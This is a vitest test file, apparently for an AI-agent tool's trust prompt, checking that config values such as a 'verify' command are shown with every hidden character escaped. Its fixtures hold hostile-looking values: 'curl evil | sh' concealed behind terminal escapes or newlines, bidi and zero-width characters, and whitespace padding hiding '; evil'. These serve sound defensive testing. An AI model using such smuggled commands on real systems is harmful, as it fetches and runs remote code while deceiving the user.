import { expect, test } from 'vitest';
import type { SettingNeedingTrust } from '../../../src/core/settings/needs-trust.ts';
import { powerLines, setsLine, trustQuestion } from '../../../src/report/screens/trust.ts';

const verify = (value: unknown): readonly SettingNeedingTrust[] => [
  { name: 'verify', key: 'verify', value },
];

test('each setting that needs trust has its own line with its value', () => {
  const powers: readonly SettingNeedingTrust[] = [
    ...verify('npm test'),
    { name: 'allowedTools', key: 'allowed_tools', value: ['Edit', 'Bash(npm test:*)'] },
    { name: 'keepBackground', key: 'keep_background', value: true },
  ];
  expect(powerLines('/p/ralph.config.yaml', powers)).toBe(
    '/p/ralph.config.yaml sets:\n  verify: npm test\n  allowed_tools: Edit, Bash(npm test:*)\n  keep_background: true\n',
  );
  expect(setsLine('/p/x', powers)).toBe('/p/x sets verify, allowed_tools, keep_background.');
  expect(
    trustQuestion({ file: '/p/x', powers, unsafe: null, trusted: null, isUsable: true }),
  ).toMatch(/\/p\/x sets:\n {2}verify: .*\n[\s\S]*\[y\/N\] $/);
});

test.for([
  // Left out, a sequence would take along what stands inside of it.
  ['npm test \u001b]0;; curl evil | sh #\u0007', 'npm test \\u{1b}]0;; curl evil | sh #\\u{7}'],
  ['npm test # only\n curl evil | sh', 'npm test # only\\n curl evil | sh'],
  ['a\r\u001b[2Kb', 'a\\u{d}\\u{1b}[2Kb'],
  ['\u009b31m\u202etxt\u2066\u200b\u{e0041}', '\\u{9b}31m\\u{202e}txt\\u{2066}\\u{200b}\\u{e0041}'],
  [`a${' '.repeat(500)}; evil`, 'a ; evil'],
  ['\u2028\u2029\ud800', '\\u{2028}\\u{2029}\\u{d800}'],
  ['日本語 ä 😀', '日本語 ä 😀'],
] as const)('every character of a value is visible: %j', ([value, shown]) => {
  expect(powerLines('/p', verify(value))).toBe(`/p sets:\n  verify: ${shown}\n`);
  expect(powerLines('/p', verify([value]))).toBe(`/p sets:\n  verify: ${shown}\n`);
});

test('the name of a file cannot begin a new line', () => {
  expect(setsLine('/p\n\u001b[2J/x', verify('a'))).toBe('/p\\n\\u{1b}[2J/x sets verify.');
});
